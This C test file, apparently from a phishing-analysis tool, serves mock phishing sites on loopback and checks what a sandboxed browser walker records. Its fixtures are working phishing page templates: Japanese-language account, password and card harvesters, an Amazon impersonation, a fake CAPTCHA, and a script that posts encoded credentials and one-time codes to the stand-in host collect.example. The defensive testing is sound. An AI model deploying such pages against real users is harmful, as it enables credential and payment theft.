/*
 * Walks through traps that are served on 127.0.0.1, with a real browser in its cage: what each page asks, what was
 * sent where, and why it ended. Skipped where there is no browser.
 */
#include "visit/walk.h"

#include <string.h>

#include "base/json.h"
#include "support/dnsresponder.h"
#include "support/scriptserver.h"
#include "visit/browser.h"
#include "visit/devtools.h"
#include "visit/pagereading.h"

#define SECONDS ((gint64)G_USEC_PER_SEC)

/* One page of a site. */
typedef struct {
	const char *host, *path; /* NULL ends the table */
	const char *
		page; /* HTML; ">/path" or ">http://host/path" redirects. @ is the port with its colon */
} Page;

typedef struct {
	const char *what;
	Page pages[12];
	const char *asks;     /* of each page, "|" between */
	const char *collects; /* host and path of each endpoint, with what it got */
	const char *stopped;
	bool wrong_first;
	const char *accepted; /* NULL: not looked at */
} Site;

#define T "trap.example"
#define FORM(action, fields)                                                                       \
	"<form method=post action='" action "'>" fields "<button>次へ</button></form>"

/* Ways in which a trap leads on. */
static const Site flows[] = {
	{"account, password, locked, card",
		{{T, "/",
			 "<html lang=ja><title>サインイン</title><h1>サインイン</h1>" FORM("/a",
				 "<label>Eメールまたは携帯電話番号<input name=email></label>")},
			{T, "/a", ">/pw"},
			{T, "/pw",
				"<h1>サインイン</h1>" FORM("/b",
					"<label>パスワード<input type=password name=p></label>")},
			{T, "/b", ">/locked"},
			{T, "/locked",
				"<h1>アカウントがロックされています</h1><p>情報を更新してください"
				"<form method=post "
				"action=/c><button>今すぐ更新する</button></form>"},
			{T, "/c", ">/card"},
			{T, "/card",
				"<h1>お支払い方法</h1>" FORM("/d",
					"<label>カード番号<input name=n maxlength=16></label>"
					"<label>有効期限<input name=e placeholder='MM/YY'></label>"
					"<label>セキュリティコード<input name=c "
					"maxlength=3></label>")},
			{T, "/d", ">/end"}, {T, "/end", "<h1>ありがとうございました</h1>"}},
		"account|password||card-number expiry security-code|",
		"trap.example/a account, trap.example/b password, trap.example/d card-number "
		"expiry security-code",
		"asks-nothing", false, NULL},
	{"one page that fetches",
		{{T, "/",
			 "<title>Sign in</title><div id=r></div><script>"
			 "const steps=['<p>Email <input id=v type=email name=email></p>',"
			 "'<p>Password <input id=v type=password></p>','<p>Enter the 6-digit code "
			 "<input id=v maxlength=6></p>',"
			 "'<p>Thank you</p>'];let at=0;"
			 "function show(){r.innerHTML=steps[at]+(at<3?'<div role=button tabindex=0 "
			 "id=go>Continue</div>':'');"
			 "if(at<3)go.onclick=async()=>{await "
			 "fetch('http://collect.example@/api',{method:'POST',mode:'no-cors',"
			 "body:JSON.stringify({step:at,v:btoa(v.value)})});at++;setTimeout(show,"
			 "400)}}show()</script>"},
			{"collect.example", "/api", "ok"}},
		"mail|password|one-time-code|", "collect.example/api mail password one-time-code",
		"asks-nothing", false, NULL},
	{"a frame of another site, split boxes",
		{{T, "/",
			 "<h1>Verify</h1><iframe width=500 height=300 "
			 "src='http://frame.example@/f'></iframe>"},
			{"frame.example", "/f",
				"<p>認証コード</p>" FORM("/g",
					"<input maxlength=1 name=a size=1><input maxlength=1 "
					"name=b size=1>"
					"<input maxlength=1 name=c size=1><input maxlength=1 "
					"name=d size=1>")},
			{"frame.example", "/g", "<p>ありがとうございました</p>"}},
		"one-time-code|", "frame.example/g", "asks-nothing", false, NULL},
	{"canvas, checkbox, lists, validation",
		{{T, "/",
			 "<h1>本人確認</h1><form id=f method=post action=/a><p>生年月日 <select "
			 "name=y><option>年"
			 "<option>1980<option>1981<option>1990<option>1995</select></p>"
			 "<p><label>電話番号<input name=t pattern='0[0-9]+-[0-9]+-[0-9]+' "
			 "required></label></p>"
			 "<p><label><input type=checkbox required>同意する</label></p></form>"
			 "<canvas id=c width=200 "
			 "height=40></canvas><script>c.onclick=()=>f.requestSubmit()</script>"},
			{T, "/a", "<p>ありがとうございました"}},
		"birth-date phone|", "trap.example/a phone", "asks-nothing", false, NULL},
	{"a closed shadow root, late, with an alert",
		{{T, "/",
			 "<div id=h></div><script>setTimeout(()=>{const "
			 "s=h.attachShadow({mode:'closed'});"
			 "s.innerHTML='<p>Password <input id=p type=password></p><button id=b>Log "
			 "in</button>';"
			 "s.getElementById('b').onclick=()=>{alert('Please wait');"
			 "location='/"
			 "a?d='+btoa(JSON.stringify({p:s.getElementById('p').value}))}},1500)</"
			 "script>"},
			{T, "/a", "<p>Thank you"}},
		"password|", "trap.example/a password", "asks-nothing", false, NULL},
	{"a box to tick that only looks like a CAPTCHA",
		{{T, "/",
			 "<h1>Security check</h1><div onclick=\"this.textContent='\u2713 I\\'m not "
			 "a "
			 "robot';setTimeout(()=>location='/in',900)\" style='cursor:pointer'>I'm "
			 "not "
			 "a robot</div>"},
			{T, "/in", FORM("/a", "<label>Email<input name=e></label>")},
			{T, "/a", "<p>Thank you"}},
		"|mail|", "trap.example/a mail", "asks-nothing", false, NULL},
	{"a button that wakes when all is as it should be",
		{{T, "/",
			 "<h1>お客様情報</h1>" FORM("/a",
				 "<label>生年月日<input name=d placeholder='YYYY/MM/DD'></label>"
				 "<label>電話番号<input name=t></label>") "<script>const "
									  "f=document.forms[0],b=f."
									  "querySelector('button');"
									  "b.disabled=true;f."
									  "oninput=()"
									  "=>"
									  "b.disabled=!(/^\\d{4}\\/"
									  "\\d\\d\\/\\d\\d$/"
									  ".test(f.d.value)&&"
									  "/^0\\d+-\\d+-\\d+$/"
									  ".test(f.t.value))</"
									  "script>"},
			{T, "/a", "<p>ありがとうございました"}},
		"birth-date phone|", "trap.example/a birth-date phone", "asks-nothing", false,
		NULL},
};

/* Where a walk ends, and what it never does. */
static const Site ends[] = {
	{"ends at the genuine site",
		{{T, "/",
			 "<h1>Amazon</h1>" FORM(
				 "/a", "<label>パスワード<input type=password name=p></label>")},
			{T, "/a", ">http://www.amazon.co.jp@/"},
			{"www.amazon.co.jp", "/", "<h1>Amazon</h1><p>検索</p>"}},
		"password", "trap.example/a password", "genuine", false, NULL},
	{"posts to the genuine site",
		{{T, "/",
			 "<h1>Amazon</h1>" FORM("http://www.amazon.co.jp@/ap",
				 "<label>パスワード<input type=password name=p></label>")},
			{"www.amazon.co.jp", "/ap", "<p>!"}},
		"password", "www.amazon.co.jp/ap password refused", "genuine", false, NULL},
	{"in a URL of the genuine site",
		{{T, "/",
			 "<h1>Amazon</h1><form "
			 "action='http://www.amazon.co.jp@/s'><label>パスワード<input "
			 "type=password name=p>"
			 "</label><button>ログイン</button></form>"},
			{"www.amazon.co.jp", "/s", "<p>!"}},
		"password", "www.amazon.co.jp/s password refused", "genuine", false, NULL},
	{"takes any password",
		{{T, "/",
			 "<h1>ログイン</h1>" FORM("/a",
				 "<label>ID<input name=i></label><label>パスワード<input "
				 "type=password name=p></label>")},
			{T, "/a", "<p>ありがとうございました"}},
		"account password|", "trap.example/a account wrong-password", "asks-nothing", true,
		"true"},
	{"asks again",
		{{T, "/",
			"<h1>ログイン</h1>" FORM("/",
				"<label>ID<input name=i></label><label>パスワード<input "
				"type=password name=p></label>")}},
		"account password|account password|account password",
		"trap.example/ account wrong-password password", "repeat", true, "false"},
	{"robots only", {{T, "/", "<h1>Verify you are human</h1>"}}, "", "", "captcha", false,
		NULL},
	{"away from the flow",
		{{T, "/", "<p>お知らせ</p><a href='http://collect.example@/next'>次へ</a>"},
			{"collect.example", "/next", "<p>?"}},
		"", "", "asks-nothing", false, NULL},
	{"the server turns us away", {{T, "/", ">/no"}}, "", "", "gone", false, NULL},
};

/* What is served, and what the genuine site got of it. */
typedef struct {
	const Page *pages;
	guint16 port;
	int genuine_posts; /* atomic */
} Served;

static char *with_port(const char *text, guint16 port)
{
	g_autofree char *colon = g_strdup_printf(":%u", port);
	g_auto(GStrv) parts = g_strsplit(text, "@", -1);

	return g_strjoinv(colon, parts);
}

static char *reply_to(const Served *served, const char *host, const char *path)
{
	const Page *page = served->pages;
	Str rest = str_of(path);
	Str bare = str_take_until(&rest, '?');

	while (page->host &&
		!(g_str_has_prefix(host, page->host) && str_equal(bare, str_of(page->path))))
		page++;
	if (!page->host)
		return g_strdup(
			"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
	g_autofree char *text = with_port(page->page, served->port);
	if (text[0] == '>')
		return g_strdup_printf("HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: "
				       "0\r\nConnection: close\r\n\r\n",
			text + 1);
	return g_strdup_printf("HTTP/1.1 200 OK\r\nContent-Type: text/html; "
			       "charset=utf-8\r\nContent-Length: %zu\r\n"
			       "Connection: close\r\n\r\n%s",
		strlen(text), text);
}

static void serve(ScriptTurn *turn)
{
	Served *served = (Served *)turn->data;
	g_autofree char *head = scriptserver_read(turn, "\r\n\r\n");

	if (!head)
		return;
	Str rest = str_of(head);
	Str line = str_take_line(&rest);
	Str method = str_take_until(&line, ' ');
	str_take_char(&line, ' ');
	g_autofree char *path = str_dup(str_take_until(&line, ' '));
	const char *host = strstr(head, "Host: ");
	g_autofree char *reply = reply_to(served, host ? host + 6 : "", path);

	if (host && g_str_has_prefix(host + 6, "www.amazon") &&
		(str_equal(method, STR("POST")) || strchr(path, '?')))
		g_atomic_int_inc(&served->genuine_posts);
	scriptserver_send(turn, reply);
}

/* Blobs that nobody reads again. */
static bool put_blob(void *store, GBytes *bytes, char name_out[BLOB_NAME_SIZE], GError **error)
{
	(void)store;
	(void)error;
	blob_name(str_of_bytes(bytes), name_out);
	return true;
}

static char *shown_asks(const json_t *walked)
{
	GString *shown = g_string_new(NULL);
	const json_t *page, *ask;
	size_t index, inner;

	json_array_foreach (json_object_get(walked, "pages"), index, page) {
		g_string_append(shown, index ? "|" : "");
		json_array_foreach (json_object_get(page, "asks"), inner, ask)
			g_string_append_printf(
				shown, "%s%s", inner ? " " : "", json_string_value(ask));
	}
	return g_string_free(shown, FALSE);
}

static char *shown_endpoints(const json_t *walked)
{
	GString *shown = g_string_new(NULL);
	const json_t *endpoint, *kind;
	size_t index, inner;

	json_array_foreach (json_object_get(walked, "collects"), index, endpoint) {
		Str url = json_get_str(endpoint, "url");
		str_take(&url, STR("http://"));
		Str host = str_take_until(&url, ':');
		str_take_until(&url, '/');
		Str path = str_take_until(&url, '?');
		g_string_append_printf(
			shown, "%s%.*s%.*s", index ? ", " : "", STR_ARG(host), STR_ARG(path));
		json_array_foreach (json_object_get(endpoint, "carries"), inner, kind)
			g_string_append_printf(shown, " %s", json_string_value(kind));
		if (json_is_true(json_object_get(endpoint, "refused")))
			g_string_append(shown, " refused");
	}
	return g_string_free(shown, FALSE);
}

/* What a walk needs, besides the browser. */
typedef struct {
	Brands *brands;
	Lists *lists;
	Door *door;
	DnsResponder *names;
	Cage *cage;
} House;

static void house_open(House *house)
{
	static const DnsRow names[] = {{T, DNSTYPE_A, .value = "127.0.0.1"},
		{"collect.example", DNSTYPE_A, .value = "127.0.0.1"},
		{"frame.example", DNSTYPE_A, .value = "127.0.0.1"},
		{"www.amazon.co.jp", DNSTYPE_A, .value = "127.0.0.1"}, {0}};
	static const char *const loopback[] = {"127.0.0.1", NULL};
	static const char *argv[] = {"/proc/self/exe", "worker", NULL};
	g_autoptr(GError) error = NULL;

	house->brands = brands_new(g_getenv("MEKIKI_SOURCE"), &error);
	house->lists = lists_new(g_getenv("MEKIKI_SOURCE"), &error);
	house->names = dnsresponder_new(names);
	const char *const resolvers[] = {dnsresponder_address(house->names), NULL};
	DoorSettings settings = {.resolvers = resolvers, .ranges = loopback};
	house->door = door_new(&settings, NULL, &error);
	g_assert_no_error(error);
	house->cage = cage_new(&(CageSettings){
		.argv = argv, .data_dir = g_getenv("MEKIKI_SOURCE"), .wall_ms = 20000});
}

static void house_close(House *house)
{
	cage_free(house->cage);
	door_free(house->door);
	dnsresponder_free(house->names);
	lists_free(house->lists);
	brands_free(house->brands);
}

typedef struct {
	Guard *guard;
	Gateway *gateway;
} Rules;

static json_t *refuses(void *data, const CheckpointRequest *request)
{
	const Rules *rules = data;

	return guard_refuses(rules->guard, request);
}

static void announce(void *data, const char *host, guint16 port)
{
	const Rules *rules = data;

	gateway_announce(rules->gateway, host, port);
}

static json_t *walk_through(const House *house, Browser *browser, guint16 port, bool wrong_first)
{
	g_autoptr(DevTools) devtools =
		devtools_new(browser_commands(browser), browser_answers(browser));
	g_autoptr(Gateway) gateway =
		gateway_new(browser_listener(browser), house->door, &(GatewaySettings){0});
	g_autoptr(Guard) guard = guard_new(house->brands, house->lists);
	Rules rules = {guard, gateway};
	const TabSettings settings = {
		.persona = persona_nth(0), .language = "ja", .rules = {&rules, refuses, announce}};
	gint64 deadline = g_get_monotonic_time() + 60 * SECONDS;
	const Blobs blobs = {.put = put_blob};
	const WalkSettings walk = {.cage = house->cage,
		.blobs = &blobs,
		.guard = guard,
		.gateway = gateway,
		.seed = "20261125-7f3a91c2",
		.now = 1795564800,
		.walks = true,
		.idle_ms = 1000,
		.wrong_first = wrong_first};
	g_autofree char *url = g_strdup_printf("http://%s:%u/", T, port);
	g_autoptr(GError) error = NULL;
	g_autoptr(Tab) tab = tab_new(devtools, &settings, deadline, &error);
	g_assert_no_error(error);
	tab_go(tab, url, NULL);
	json_t *walked = walk_run(&walk, tab, deadline, &error);
	g_assert_no_error(error);
	return walked;
}

static void check(const Site *site, const json_t *walked)
{
	g_autofree char *asks = shown_asks(walked), *collects = shown_endpoints(walked);

	g_assert_cmpstr(asks, ==, site->asks);
	g_assert_cmpstr(collects, ==, site->collects);
	g_assert_cmpstr(
		json_get_text(json_object_get(walked, "stopped"), "reason"), ==, site->stopped);
	if (site->accepted)
		g_assert_true(json_is_true(json_at(walked, "/accepts_anything/accepted")) ==
			      g_str_equal(site->accepted, "true"));
}

static void test_walk(const void *data)
{
	const Site *site = data;
	BrowserSettings settings = {.launcher = g_getenv("MEKIKI_LAUNCHER")};
	g_autoptr(GError) error = NULL;
	g_autoptr(Browser) browser = browser_new(&settings, &error);
	Served served = {.pages = site->pages};
	g_autoptr(ScriptServer) server = scriptserver_new(serve, &served);
	House house;

	if (!browser) {
		g_test_skip(error->message);
		return;
	}
	served.port = scriptserver_port(server);
	house_open(&house);
	json_auto_t *walked = walk_through(&house, browser, served.port, site->wrong_first);
	if (g_getenv("WALK_SHOW")) {
		g_autofree char *text = json_pretty(walked);
		g_printerr("%s", text);
	}
	check(site, walked);
	g_assert_cmpint(served.genuine_posts, ==, 0);
	house_close(&house);
}

static void add(const char *group, const Site *sites, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		g_autofree char *path = g_strconcat("/walk/", group, "/", sites[i].what, NULL);
		g_test_add_data_func(path, &sites[i], test_walk);
	}
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "worker") == 0)
		return cage_serve((const CageJob[]){page_job, {0}});
	g_test_init(&argc, &argv, NULL);
	add("flow", flows, G_N_ELEMENTS(flows));
	add("end", ends, G_N_ELEMENTS(ends));
	return g_test_run();
}
